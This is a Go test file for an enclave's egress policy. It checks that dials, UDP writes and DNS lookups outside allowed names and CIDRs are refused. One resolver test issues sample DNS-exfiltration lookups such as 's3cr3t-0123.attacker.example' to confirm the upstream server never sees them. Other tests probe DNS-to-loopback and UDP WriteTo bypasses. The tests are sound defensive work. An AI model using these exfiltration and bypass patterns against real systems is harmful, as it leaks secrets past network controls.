package enclave_test

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/quenchnet/quench/enclave"
	"github.com/quenchnet/quench/host"
	"github.com/quenchnet/quench/internal/testutil"
	"github.com/quenchnet/quench/policy"
)

// TestUserspaceEgressPolicy checks Config.Egress in userspace mode: allowed
// names and CIDRs connect, everything else is refused before any packet
// leaves, with ErrEgressRefused.
func TestUserspaceEgressPolicy(t *testing.T) {
	sock := usSocket(t)
	usHost(t, sock)
	port := usHostHTTP(t, "from the host")
	tests := []struct {
		name    string
		rules   []string
		addr    string
		allowed bool
	}{
		{"name allowed", []string{fmt.Sprintf("host.quench.internal:%d", port)}, fmt.Sprintf("host.quench.internal:%d", port), true},
		{"address of an allowed name, dialled directly", []string{fmt.Sprintf("host.quench.internal:%d", port)}, fmt.Sprintf("192.168.127.254:%d", port), false},
		{"other port", []string{fmt.Sprintf("host.quench.internal:%d", port)}, fmt.Sprintf("host.quench.internal:%d", port+1), false},
		{"other name", []string{fmt.Sprintf("host.quench.internal:%d", port)}, "gateway.quench.internal:53", false},
		{"CIDR allowed", []string{fmt.Sprintf("192.168.127.0/24:%d", port)}, fmt.Sprintf("192.168.127.254:%d", port), true},
		{"CIDR elsewhere", []string{fmt.Sprintf("10.0.0.0/8:%d", port)}, fmt.Sprintf("192.168.127.254:%d", port), false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := egressEnclave(t, sock, tt.rules)
			dialExpect(t, e, "tcp", tt.addr, tt.allowed, "")
		})
	}
}

// TestUserspaceEgressHostDNS: the host's DNS answers for allowed names, but
// must not lead Dial to destinations the policy would refuse by address and
// that are inside the enclave: its loopback, its own address, the
// unspecified address (the local system), multicast. An address or CIDR
// rule still allows them explicitly; "*" does not.
func TestUserspaceEgressHostDNS(t *testing.T) {
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	zone := map[string]netip.Addr{
		"loop.example.com.":  netip.MustParseAddr("127.0.0.1"),
		"loop2.example.com.": netip.MustParseAddr("127.1.2.3"),
		"self.example.com.":  netip.MustParseAddr("192.168.127.2"),
		"zero.example.com.":  netip.MustParseAddr("0.0.0.0"),
		"mcast.example.com.": netip.MustParseAddr("224.0.0.1"),
		"bcast.example.com.": netip.MustParseAddr("255.255.255.255"),
		"net.example.com.":   netip.MustParseAddr("192.168.127.255"),
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		testutil.ServeDNSUnknown(pc, zone, dnsmessage.RCodeSuccess)
	}()
	t.Cleanup(func() { _ = pc.Close(); <-done })
	sock := usSocket(t)
	startTestHost(t, sock, host.Config{DNSUpstream: []string{pc.LocalAddr().String()}})

	tests := []struct {
		name    string
		rules   []string
		addr    string
		allowed bool
	}{
		{"name to loopback", []string{"loop.example.com:9000"}, "loop.example.com:9000", false},
		{"name to loopback, not 127.0.0.1", []string{"loop2.example.com:9000"}, "loop2.example.com:9000", false},
		{"name to own address", []string{"self.example.com:9000"}, "self.example.com:9000", false},
		{"name to unspecified", []string{"zero.example.com:9000"}, "zero.example.com:9000", false},
		{"name to multicast", []string{"mcast.example.com:9000/udp"}, "mcast.example.com:9000", false},
		{"name to broadcast", []string{"bcast.example.com:9000/udp"}, "bcast.example.com:9000", false},
		{"name to subnet broadcast", []string{"net.example.com:9000/udp"}, "net.example.com:9000", false},
		{"wildcard to loopback", []string{"*.example.com:9000"}, "loop.example.com:9000", false},
		{"loopback allowed by address", []string{"loop.example.com:9000", "127.0.0.1:9000"}, "loop.example.com:9000", true},
		{"own address allowed by CIDR", []string{"self.example.com:9000", "192.168.127.0/24:9000"}, "self.example.com:9000", true},
		// "*" allows any destination out, not these in particular: the
		// host's DNS must not lead a name there either.
		{"* to loopback", []string{"*:9000"}, "loop.example.com:9000", false},
		{"* to own address", []string{"*"}, "self.example.com:9000", false},
		{"* to unspecified", []string{"*:9000/tcp"}, "zero.example.com:9000", false},
		{"*, loopback dialled by address", []string{"*:9000"}, "127.0.0.1:9000", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := egressEnclave(t, sock, tt.rules)
			ln, err := e.Listen("tcp", ":9000") // 127.0.0.1 and 192.168.127.2
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			egressListenPacket(t, e.ListenPacket, ":9000")
			network := "tcp"
			if strings.HasSuffix(tt.rules[0], "/udp") {
				network = "udp"
			}
			dialExpect(t, e, network, tt.addr, tt.allowed, "the host's DNS led it into the enclave")
		})
	}
}

// TestUserspaceEgressPacketConn: with an egress policy, a PacketConn from
// ListenPacket sends to addresses the policy allows and answers peers that
// wrote to it first, and refuses everything else (it used to send anywhere).
func TestUserspaceEgressPacketConn(t *testing.T) {
	sock := usSocket(t)
	h := usHost(t, sock, "127.0.0.1:0:5353/udp")
	allowedSink := egressListenPacket(t, net.ListenPacket, "127.0.0.1:0")
	refusedSink := egressListenPacket(t, net.ListenPacket, "127.0.0.1:0")
	allowedPort := allowedSink.LocalAddr().(*net.UDPAddr).Port
	refusedPort := refusedSink.LocalAddr().(*net.UDPAddr).Port
	e := egressEnclave(t, sock, []string{fmt.Sprintf("192.168.127.254:%d/udp", allowedPort)})
	pc := egressListenPacket(t, e.ListenPacket, ":5353")

	to := func(port int) net.Addr { return &net.UDPAddr{IP: net.IPv4(192, 168, 127, 254), Port: port} }
	if _, err := pc.WriteTo([]byte("allowed"), to(allowedPort)); err != nil {
		t.Fatalf("WriteTo an allowed address: %v", err)
	}
	buf := make([]byte, 64)
	_ = allowedSink.SetReadDeadline(time.Now().Add(5 * time.Second))
	if n, _, err := allowedSink.ReadFrom(buf); err != nil || string(buf[:n]) != "allowed" {
		t.Fatalf("allowed datagram: %q, %v", buf[:n], err)
	}
	if _, err := pc.WriteTo([]byte("refused"), to(refusedPort)); !errors.Is(err, enclave.ErrEgressRefused) {
		t.Fatalf("WriteTo a destination the policy does not allow = %v, want ErrEgressRefused", err)
	}
	_ = refusedSink.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	if n, _, err := refusedSink.ReadFrom(buf); err == nil {
		t.Fatalf("refused datagram arrived: %q", buf[:n])
	}

	// A client that writes first is answered (a UDP server's reply).
	c, err := net.Dial("udp", h.Published()[0].String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Write([]byte("ping")); err != nil {
		t.Fatal(err)
	}
	_ = pc.SetReadDeadline(time.Now().Add(5 * time.Second))
	n, from, err := pc.ReadFrom(buf)
	if err != nil || string(buf[:n]) != "ping" {
		t.Fatalf("ReadFrom: %q, %v", buf[:n], err)
	}
	if _, err := pc.WriteTo([]byte("pong"), from); err != nil {
		t.Fatalf("reply to a peer that wrote first: %v", err)
	}
	_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if n, err := c.Read(buf); err != nil || string(buf[:n]) != "pong" {
		t.Fatalf("reply: %q, %v", buf[:n], err)
	}
}

// TestUserspaceEgressDialUDPWriteTo: a "udp" conn from Dial is also a
// net.PacketConn (the Go resolver needs that), and its WriteTo must not
// reach what the policy refuses. The userspace stack sends a connected
// socket's datagram to whatever address WriteTo names, so an app that
// handed such a conn to a library writing with WriteTo (QUIC, DNS) could be
// led past the policy by the addresses its peer sends.
func TestUserspaceEgressDialUDPWriteTo(t *testing.T) {
	sock := usSocket(t)
	usHost(t, sock)
	allowedSink := egressListenPacket(t, net.ListenPacket, "127.0.0.1:0")
	refusedSink := egressListenPacket(t, net.ListenPacket, "127.0.0.1:0")
	allowedPort := allowedSink.LocalAddr().(*net.UDPAddr).Port
	refusedPort := refusedSink.LocalAddr().(*net.UDPAddr).Port
	e := egressEnclave(t, sock, []string{fmt.Sprintf("192.168.127.254:%d/udp", allowedPort)})

	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	c, err := e.Dial(ctx, "udp", fmt.Sprintf("192.168.127.254:%d", allowedPort))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Write([]byte("allowed")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 64)
	_ = allowedSink.SetReadDeadline(time.Now().Add(5 * time.Second))
	if n, _, err := allowedSink.ReadFrom(buf); err != nil || string(buf[:n]) != "allowed" {
		t.Fatalf("allowed datagram: %q, %v", buf[:n], err)
	}
	pc, ok := c.(net.PacketConn)
	if !ok {
		return // nothing else to write with
	}
	to := &net.UDPAddr{IP: net.IPv4(192, 168, 127, 254), Port: refusedPort}
	if _, err := pc.WriteTo([]byte("refused"), to); err == nil {
		t.Errorf("WriteTo(%v), a destination the policy refuses, on a conn dialled elsewhere succeeded", to)
	}
	_ = refusedSink.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	if n, _, err := refusedSink.ReadFrom(buf); err == nil {
		t.Fatalf("refused datagram arrived: %q", buf[:n])
	}
}

// egressListenPacket listens for UDP on address with listen (net's or an
// enclave's ListenPacket) and closes the socket when the test ends.
func egressListenPacket(t *testing.T, listen func(network, address string) (net.PacketConn, error), address string) net.PacketConn {
	t.Helper()
	pc, err := listen("udp", address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = pc.Close() })
	return pc
}

// egressEnclave starts an enclave attached to sock with an egress policy
// of rules and waits until it is ready. usReady's probe, a lookup of
// gateway.quench.internal, is allowed by one more rule (for UDP to port 53
// only): Resolver asks about no name the policy does not allow.
func egressEnclave(t *testing.T, sock string, rules []string) *enclave.Enclave {
	t.Helper()
	p, err := policy.Parse(append(slices.Clip(rules), "gateway.quench.internal:53/udp"))
	if err != nil {
		t.Fatal(err)
	}
	e := usStartEnclave(t, sock, func(c *enclave.Config) { c.Egress = p })
	usReady(t, e)
	return e
}

// dialExpect dials addr through e and fails the test unless the dial
// succeeds when allowed, and fails with ErrEgressRefused otherwise. why,
// if set, says what a dial that should have been refused means.
func dialExpect(t *testing.T, e *enclave.Enclave, network, addr string, allowed bool, why string) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	c, err := e.Dial(ctx, network, addr)
	switch {
	case allowed && err != nil:
		t.Fatalf("Dial(%s) = %v, want allowed", addr, err)
	case allowed:
		c.Close()
	case err == nil:
		remote := c.RemoteAddr()
		c.Close()
		if why == "" {
			why = "want refused"
		}
		t.Fatalf("Dial(%s) reached %v: %s", addr, remote, why)
	case !errors.Is(err, enclave.ErrEgressRefused):
		t.Fatalf("Dial(%s) = %v, want ErrEgressRefused", addr, err)
	}
}

// recordingPC is a PacketConn that records the question names of the DNS
// queries read from it.
type recordingPC struct {
	net.PacketConn
	mu    sync.Mutex
	names []string
}

func (r *recordingPC) ReadFrom(b []byte) (int, net.Addr, error) {
	n, a, err := r.PacketConn.ReadFrom(b)
	var m dnsmessage.Message
	if err == nil && m.Unpack(b[:n]) == nil {
		r.mu.Lock()
		for _, q := range m.Questions {
			r.names = append(r.names, q.Name.String())
		}
		r.mu.Unlock()
	}
	return n, a, err
}

func (r *recordingPC) seen() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.names)
}

// TestUserspaceEgressResolver: with a policy allowing one name, the
// enclave's Resolver still asked the host's DNS about any name, and an
// honest host without a policy of its own forwarded it to the upstream
// server: a lookup of "<secret>.attacker.example" carried data out. Now
// only names the policy allows are asked about; the others are answered
// "no such host" in the enclave.
func TestUserspaceEgressResolver(t *testing.T) {
	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	rec := &recordingPC{PacketConn: pc}
	done := make(chan struct{})
	go func() {
		defer close(done)
		testutil.ServeDNSUnknown(rec, map[string]netip.Addr{"allowed.example.com.": netip.MustParseAddr("10.9.9.9")}, dnsmessage.RCodeSuccess)
	}()
	t.Cleanup(func() { _ = pc.Close(); <-done })
	sock := usSocket(t)
	startTestHost(t, sock, host.Config{DNSUpstream: []string{pc.LocalAddr().String()}})
	e := egressEnclave(t, sock, []string{"allowed.example.com:443"})
	r, err := e.Resolver()
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	if addrs, err := r.LookupHost(ctx, "allowed.example.com"); err != nil || !slices.Contains(addrs, "10.9.9.9") {
		t.Errorf("LookupHost(allowed.example.com) = %v, %v", addrs, err)
	}
	_, err = r.LookupHost(ctx, "s3cr3t-0123.attacker.example")
	var dnsErr *net.DNSError
	if !errors.As(err, &dnsErr) || !dnsErr.IsNotFound {
		t.Errorf("LookupHost of a name the policy does not allow = %v, want not found", err)
	}
	if _, err := r.LookupTXT(ctx, "s3cr3t-4567.attacker.example"); err == nil {
		t.Error("LookupTXT of a name the policy does not allow succeeded")
	}
	for _, n := range rec.seen() {
		if strings.Contains(n, "attacker") {
			t.Errorf("the upstream DNS server was asked about %q", n)
		}
	}
	if !slices.Contains(rec.seen(), "allowed.example.com.") {
		t.Errorf("the upstream DNS server saw %q, not the allowed name", rec.seen())
	}
}
